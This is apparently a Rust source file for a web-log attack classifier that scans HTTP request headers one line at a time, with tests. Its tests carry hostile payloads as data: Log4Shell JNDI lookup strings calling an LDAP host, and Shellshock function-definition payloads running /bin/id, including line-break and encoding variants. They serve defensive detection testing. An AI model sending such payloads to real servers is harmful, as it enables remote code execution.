//! Judges headers, each by itself.
//!
//! Of the headers of a request nearly all are those of the request before, and yet no two
//! requests have the same: one of them is a trace id. So what is remembered of clean texts
//! is remembered of single headers. It is also what they mean: servers read each by itself,
//! and what begins in one and ends in the next is an accident.
//!
//! That each line is one header, and that a line break in a name or a value became a space,
//! is up to who reads the log.

use portcullis_ingest::Request;

use super::{Classifier, MOST_PARTS};
use crate::rule::Subject;

impl Classifier<'_> {
    /// Searches each line, unless it is known to be clean, and remembers those that are.
    pub(super) fn headers(&mut self, memo: usize, headers: &[u8], request: &Request<'_>) {
        let remember = self.search.census.is_none();
        let wanted = self.rules.engine().views(Subject::Headers);
        let mut lines = 0;
        let mut next = 0;
        while let Some(rest) = headers.get(next..).filter(|rest| !rest.is_empty()) {
            lines += 1;
            let start = next;
            let length = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
            next += length + 1;
            // Known lines count too, so that nothing depends on what was judged before.
            if lines == MOST_PARTS && next < headers.len() {
                self.verdict.truncated_fields += 1;
                self.text(Subject::Headers, wanted, rest, headers, start, request);
                return;
            }
            let line = &rest[..length];
            if remember && self.memos[memo].is_clean(line) {
                continue;
            }
            let clean = self.text(Subject::Headers, wanted, line, headers, start, request);
            if remember && clean {
                self.memos[memo].remember_clean(line);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use portcullis_ingest::{Field, LogFormat, ReadOptions, Reject, Sink, Untrusted, read_object};
    use proptest::prelude::*;

    use super::super::{FIELDS, HEADERS, Verdict};
    use super::*;
    use crate::rule::RuleSet;

    static RULES: LazyLock<RuleSet> = LazyLock::new(RuleSet::builtin);

    const LOOKUP: &str = "X-Api-Version: ${jndi:ldap://198.51.100.2/a}";

    fn request(headers: &str) -> Request<'_> {
        Request { headers: Some(Untrusted::new(headers.as_bytes())), ..Request::default() }
    }

    fn judged(headers: &str) -> Verdict {
        RULES.classify(&request(headers))
    }

    /// The ids of the rules that fired, in their order.
    fn fired(verdict: &Verdict) -> Vec<String> {
        verdict.hits().iter().map(|hit| RULES.rules()[hit.rule].id().to_owned()).collect()
    }

    #[test]
    fn what_is_no_address_in_a_list_of_forwarders_is_searched_as_a_header() {
        assert_eq!(FIELDS[HEADERS], Field::Headers);
        let judged = |list: &str| {
            let list = Some(Untrusted::new(list.as_bytes()));
            RULES.classify(&Request { forwarded_for: list, ..Request::default() })
        };
        assert!(!judged("192.0.2.1, 2001:db8::1, unknown").flagged());
        assert!(judged("${jndi:ldap://198.51.100.2/a}, 192.0.2.1").flagged());
    }

    #[test]
    fn an_attack_in_any_header_is_found_and_shown_with_those_around_it() {
        let honest: Vec<String> = (0..30).map(|number| format!("x-{number}: a (b) $c")).collect();
        assert!(!judged(&honest.join("\n")).flagged());
        for place in 0..=honest.len() {
            let mut headers = honest.clone();
            headers.insert(place, LOOKUP.to_owned());
            let verdict = judged(&(headers.join("\n") + "\n"));
            assert_eq!(fired(&verdict), ["log4shell/jndi-lookup"]);
            let shown = &verdict.hits()[0];
            assert_eq!((shown.subject, verdict.truncated_fields()), (Subject::Headers, 0));
            let shown = shown.text.as_untrusted().escaped().to_string();
            assert!(shown.contains(LOOKUP), "{shown}");
            assert!(shown.contains("x-0: a (b) $c\\u{a}") || place > 3, "{shown}");
        }
    }

    #[test]
    fn two_headers_never_join_to_an_attack() {
        for (one, other) in [
            ("x-price: 5$", "x-about: jndi-http"),
            ("x-callback: f()", "{ :; }; x: y"),
            ("x-open: ${", "jndi:ldap://198.51.100.2/a"),
        ] {
            let joined = fired(&judged(&format!("{one} {other}")));
            let apart = fired(&judged(&format!("{one}\n{other}\n")));
            assert_eq!(joined.len(), 1, "{one} {other}");
            // The last is an attack without the first.
            assert_eq!(apart, fired(&judged(other)), "{one} {other}");
        }
        assert!(
            !judged("x-price: 5$\nx-about: jndi-http\nx-callback: f()\n{ :; }; x: y\n").flagged()
        );
    }

    #[test]
    fn a_line_break_in_a_value_hides_nothing() {
        #[derive(Default)]
        struct Fired(Vec<String>);
        impl Sink for Fired {
            fn request(&mut self, request: &Request<'_>) {
                self.0.extend(fired(&RULES.classify(request)));
            }
            fn reject(&mut self, reject: &Reject<'_>) {
                panic!("{reject:?}");
            }
        }
        let read = |format: &str, text: &str| {
            let format = LogFormat::preset(format).expect("a preset");
            let mut read = Fired::default();
            read_object("a", text.as_bytes(), Some(&format), &ReadOptions::default(), &mut read);
            read.0
        };
        for line_break in ["\\n", "\\r\\n ", "\\u000a", "\\u000D", " "] {
            let waf = |name: &str, value: &str| {
                let record = r#"{"timestamp":1576280412771,"webaclId":"arn","action":"ALLOW","httpRequest":{"clientIp":"192.0.2.1","headers":[{"name":"NAME","value":"VALUE"}],"uri":"/","args":""}}"#;
                record.replace("NAME", name).replace("VALUE", value).replace('~', line_break)
            };
            let shellshock = ["rce/shellshock"];
            assert_eq!(read("aws-waf", &waf("x-a", "()~{~:;~};~/bin/id")), shellshock);
            assert_eq!(read("aws-waf", &waf("()~{~:;~}; ", "/bin/id")), shellshock);
        }
        for line_break in ["%0A", "%0d%0a", "%20"] {
            let columns = "#Fields: date time c-ip cs-method cs-uri-stem sc-status cs(Cookie)\n";
            let line = "2026-03-02\t07:30:00\t192.0.2.1\tGET\t/\t200\t()~{~:;~};~/bin/id\n";
            let text = columns.to_owned() + &line.replace('~', line_break);
            assert_eq!(read("cloudfront", &text), ["rce/shellshock"], "{text}");
        }
    }

    #[test]
    fn headers_that_come_again_are_remembered_one_by_one_and_attacks_are_not() {
        let mut classifier = RULES.classifier();
        let headers = FIELDS.iter().position(|field| *field == Subject::Headers.field());
        let headers = headers.expect("headers are searched");
        let knows = |classifier: &Classifier<'_>, line: &str| {
            classifier.memos[headers].is_clean(line.as_bytes())
        };
        for trace in 1..9 {
            let headers = format!("accept: */*\n{LOOKUP}\nx-trace-id: {trace}\n");
            assert!(classifier.classify(&request(&headers)).flagged());
        }
        assert!(knows(&classifier, "accept: */*"));
        assert!(!knows(&classifier, "x-trace-id: 1"));
        assert!(!knows(&classifier, LOOKUP));
        assert!(classifier.classify(&request(LOOKUP)).flagged());
        assert!(!classifier.classify(&request("accept: */*\nx-trace-id: 1\n")).flagged());
    }

    #[test]
    fn of_very_many_headers_the_last_are_searched_together_and_counted() {
        let headers = |honest: usize| "a: b\n".repeat(honest) + LOOKUP + "\n";
        for (honest, truncated) in [(200, 0), (MOST_PARTS - 1, 0), (MOST_PARTS, 1), (3_000, 1)] {
            let headers = headers(honest);
            let mut classifier = RULES.classifier();
            // What is known by the second time changes nothing.
            for _ in 0..2 {
                let verdict = classifier.classify(&request(&headers));
                assert_eq!(fired(verdict), ["log4shell/jndi-lookup"]);
                assert_eq!(verdict.truncated_fields(), truncated, "{honest}");
            }
        }
    }

    fn header() -> impl Strategy<Value = String> {
        let pieces = vec![
            "a", ": ", "${", "}", "jndi", ":", "ldap://", "lower:j", "::-", "()", " { :; };",
            "%0a", "%24", "\r", " ", "  ", "$", "\\u007b", "ht", "tp/",
        ];
        proptest::collection::vec(proptest::sample::select(pieces), 0..9)
            .prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn headers_are_as_bad_as_any_of_them_in_any_order_and_whatever_came_before(
            requests in proptest::collection::vec(proptest::collection::vec(header(), 0..6), 1..8),
        ) {
            let mut classifier = RULES.classifier();
            for mut headers in requests {
                let mut expected: Vec<String> =
                    headers.iter().flat_map(|header| fired(&judged(header))).collect();
                expected.sort();
                expected.dedup();
                for _ in 0..2 {
                    let text = headers.join("\n") + "\n";
                    let mut found = fired(classifier.classify(&request(&text)));
                    found.sort();
                    prop_assert_eq!(&found, &expected, "{}", text);
                    headers.reverse();
                }
            }
        }
    }
}
